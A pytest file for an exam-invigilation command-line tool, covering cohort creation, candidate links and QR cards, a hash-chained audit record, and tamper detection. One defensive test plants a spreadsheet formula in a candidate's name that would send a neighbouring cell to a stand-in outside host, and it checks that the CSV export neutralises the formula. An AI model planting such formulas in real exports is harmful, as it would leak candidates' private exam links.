"""The exams office on the command line, through the one door, on real files."""

import csv
import json
import re
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from contextlib import closing, contextmanager
from pathlib import Path

import pytest

from rooms.admin.links import _csv
from tests.office.one_door import Done, an_error, ninefold

COHORTS = Path(__file__).parent.parent / "cohorts"
GOOD = COHORTS / "cohort.toml"
COHORT, SESSION = "tt2027-linear-algebra", "tt2027-linear-algebra-1"


@pytest.fixture
def data(tmp_path: Path) -> Path:
    """A data folder with the sample cohort, created for an exam in 2027."""
    ninefold("cohort", "create", GOOD, "--data", tmp_path / "data")
    return tmp_path / "data"


@pytest.fixture
def rehearsal(tmp_path: Path) -> Path:
    """The same as a rehearsal: open now."""
    ninefold("cohort", "create", GOOD, "--data", tmp_path / "data", "--rehearsal")
    return tmp_path / "data"


def test_a_sound_cohort_is_checked_and_nothing_is_stored(tmp_path: Path) -> None:
    done = ninefold("cohort", "check", GOOD)

    assert "12 candidates, 1 session, 2 rooms" in done.stdout
    assert list(tmp_path.iterdir()) == []


def test_every_problem_of_a_wrong_cohort_is_named_and_no_half_of_it_is_stored(tmp_path: Path) -> None:
    wrong = COHORTS / "wrong" / "cohort.toml"

    checked = ninefold("cohort", "check", wrong, code=2)
    created = ninefold("cohort", "create", wrong, "--data", tmp_path / "data", code=2)

    assert f"{wrong}:2:1: `department` is missing" in checked.stdout
    assert checked.stdout == created.stdout
    assert "nothing was stored" in an_error(created)
    assert not (tmp_path / "data" / "record.sqlite").exists()


def test_problems_can_be_read_by_a_script() -> None:
    done = ninefold("cohort", "check", COHORTS / "wrong" / "cohort.toml", "--json", code=2)

    problems = json.loads(done.stdout)
    assert {"file", "line", "column", "reason", "level"} == set(problems[0])


def test_the_same_cohort_twice_is_refused(data: Path) -> None:
    done = ninefold("cohort", "create", GOOD, "--data", data, code=1)

    assert "cohort-exists" in an_error(done)
    assert "intact 1 records" in ninefold("verify", COHORT, "--data", data).stdout


def test_a_cohort_is_published_after_its_permission_is_confirmed(data: Path) -> None:
    """Oxford: "Permission to provide cohort invigilation should be sought from the Proctors' Office"."""
    assert "permission-missing" in an_error(ninefold("cohort", "publish", COHORT, "--data", data, code=1))
    assert "not published" in an_error(ninefold("links", COHORT, "--data", data, "--json", code=3))

    ninefold("cohort", "confirm", COHORT, "--data", data, "--note", "letter of 30 April seen")

    assert ninefold("cohort", "publish", COHORT, "--data", data).stdout == f"{SESSION}: open\n"
    assert ninefold("cohort", "publish", COHORT, "--data", data).stdout == f"{SESSION}: open\n"


def test_cohorts_are_listed_and_shown_with_their_rooms_and_seats(data: Path) -> None:
    (listed,) = json.loads(ninefold("cohort", "list", "--data", data, "--json").stdout)
    shown = json.loads(ninefold("cohort", "show", COHORT, "--data", data, "--json").stdout)

    assert (listed["cohort"], listed["candidates"]) == (COHORT, 12)
    assert [len(room["seats"]) for room in shown["sessions"][0]["rooms"]] == [6, 6]
    assert "waits for the permission" in ninefold("cohort", "show", COHORT, "--data", data).stdout


def test_an_empty_installation_says_how_to_begin(data: Path, tmp_path: Path) -> None:
    (tmp_path / "other").mkdir()

    assert "ninefold cohort create" in an_error(ninefold("cohort", "list", "--data", tmp_path / "other", code=3))


def test_a_rehearsal_is_open_at_once_and_marked(rehearsal: Path) -> None:
    (session,) = json.loads(ninefold("cohort", "show", COHORT, "--data", rehearsal, "--json").stdout)["sessions"]

    assert (session["state"], session["rehearsal"]) == ("open", True)


def test_links_are_printed_for_everybody_and_the_same_each_time(rehearsal: Path) -> None:
    first = ninefold("links", COHORT, "--data", rehearsal, "--json").stdout
    (session,) = json.loads(first)["sessions"]

    assert session["session"] == SESSION
    assert {"number", "name", "room", "seat", "url", "code"} <= set(session["candidates"][0])
    assert {"name", "role", "room", "key"} <= set(session["staff"][0])
    assert session["candidates"][0]["number"] == "0043321"
    assert "/#" in session["candidates"][0]["url"]
    assert ninefold("links", COHORT, "--data", rehearsal, "--json").stdout == first


def test_a_link_made_anew_is_another_and_leaves_the_others_alone(rehearsal: Path) -> None:
    def urls(*more: str) -> dict[str, str]:
        (session,) = json.loads(ninefold("links", COHORT, "--data", rehearsal, "--json", *more).stdout)["sessions"]
        return {candidate["number"]: candidate["url"] for candidate in session["candidates"]}

    before = urls()
    after = urls("--reissue", "candidate:0043321")

    assert {number for number in before if before[number] != after[number]} == {"0043321"}
    assert "nobody" in an_error(ninefold("links", COHORT, "--data", rehearsal, "--reissue", "candidate:999", code=2))


def test_links_come_as_a_table_for_mail_merge_and_as_cards(rehearsal: Path, tmp_path: Path) -> None:
    table = ninefold("links", COHORT, "--data", rehearsal, "--csv").stdout.splitlines()
    ninefold("links", COHORT, "--data", rehearsal, "--qr", tmp_path / "cards")

    assert table[0].startswith("session,role,number,name,room,seat,url,code,key,email,paper,opens,starts,")
    cards = {path.stem: path.read_text() for path in (tmp_path / "cards").glob("*.svg")}
    assert len(cards) == 12
    code = next(row["code"] for row in csv.DictReader(table) if row["number"] == "0043321")
    assert re.fullmatch("[0-9A-HJKMNP-TV-Z]{4}-[0-9A-HJKMNP-TV-Z]{4}", code)
    # Whoever cannot scan the picture types what stands beneath it.
    assert f">{code}</text>" in cards[f"{SESSION}-0043321"]
    assert f"{code} " in ninefold("links", COHORT, "--data", rehearsal).stdout


def test_no_spreadsheet_reckons_with_the_table_for_mail_merge() -> None:
    """Names come from rosters, and the table is opened in a spreadsheet with everybody's links in it."""
    candidate = {"number": "1", "name": '=WEBSERVICE("https://elsewhere.example?"&G2)'}
    member = {"id": "j-okafor", "name": "J. Okafor", "key": "-a key may begin so"}
    listed = {"sessions": [{"session": SESSION, "candidates": [candidate], "staff": [member]}]}

    row, other = csv.DictReader(_csv(listed, [{"candidate:1": {}, "staff:j-okafor": {}}]).splitlines())

    assert row["name"] == f"'{candidate['name']}"
    assert (row["key"], other["key"]) == ("", member["key"])


def test_the_record_is_printed_one_record_a_line(rehearsal: Path) -> None:
    for name in (SESSION, f"session/{SESSION}"):
        (line,) = ninefold("log", name, "--data", rehearsal, "--json").stdout.splitlines()

    record = json.loads(line)
    assert set(record) == {"seq", "at", "said_at", "actor", "command_id", "events", "previous", "hash"}
    assert (record["seq"], record["events"][0]["type"], record["previous"]) == (1, "SessionOpened", "0" * 64)


@contextmanager
def following(*arguments: object) -> Iterator[subprocess.Popen[str]]:
    process = subprocess.Popen(
        [sys.executable, "-m", "signalling.cli", "log", *map(str, arguments), "--follow", "--json"],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        yield process
    finally:
        process.kill()
        process.communicate()


def test_a_followed_record_goes_on_with_what_another_process_adds(rehearsal: Path) -> None:
    with following(SESSION, "--data", rehearsal) as process:
        assert json.loads(process.stdout.readline())["seq"] == 1

        ninefold("onboarding", "waive", COHORT, "0043321", "--data", rehearsal, "--why", "seen in person")

        assert json.loads(process.stdout.readline())["events"][0]["type"] == "OnboardingWaived"


def test_an_intact_chain_is_said_so(rehearsal: Path) -> None:
    one = ninefold("verify", SESSION, "--data", rehearsal).stdout.split()

    assert one[:3] == ["intact", "1", "records"]
    assert len(one[3]) == 64
    assert ninefold("verify", "--all", "--data", rehearsal).stdout.count("intact") == 2


def test_a_record_that_somebody_altered_is_named(rehearsal: Path) -> None:
    ninefold("onboarding", "waive", COHORT, "0043321", "--data", rehearsal, "--why", "seen in person")
    with closing(sqlite3.connect(rehearsal / "record.sqlite")) as file:
        for (trigger,) in file.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
            file.execute(f"DROP TRIGGER {trigger}")
        file.execute("UPDATE stored SET body = replace(body, 'in person', 'in a mask') WHERE seq = 2")
        file.commit()

    done = ninefold("verify", SESSION, "--data", rehearsal, code=1)

    assert done.stdout.startswith("broken at record 2")


def test_an_option_may_come_from_the_environment(rehearsal: Path) -> None:
    assert COHORT in ninefold("cohort", "list", NINEFOLD_DATA=str(rehearsal)).stdout


@pytest.mark.parametrize(
    "arguments",
    [
        ("verify",),
        ("verify", SESSION, "--all"),
        ("log", "no-such-record"),
        ("cohort", "show", "no-such-cohort"),
        ("cohort", "publish", "no-such-cohort"),
        ("links", "no-such-cohort"),
        ("onboarding", "list", "no-such-cohort"),
    ],
)
def test_wrong_use_is_one_line_that_says_what_to_do(rehearsal: Path, arguments: tuple[str, ...]) -> None:
    an_error(ninefold(*arguments, "--data", rehearsal, code={1, 2}))


def test_a_script_sees_the_exit_code_and_one_line_on_standard_error(rehearsal: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "signalling.cli", "verify", "no-such-record", "--data", str(rehearsal)],
        capture_output=True,
        text=True,
        check=False,
    )

    assert (done.returncode, done.stdout) == (2, "")
    an_error(Done(done.stdout, done.stderr))


def test_the_tables_can_be_read_without_our_code(rehearsal: Path) -> None:
    ninefold("onboarding", "waive", COHORT, "0043321", "--data", rehearsal, "--why", "seen in person")

    read = subprocess.run(
        [sys.executable, "-m", "sqlite_utils", "rows", str(rehearsal / "record.sqlite"), "event"],
        capture_output=True,
        text=True,
        check=True,
    )

    assert "OnboardingWaived" in read.stdout
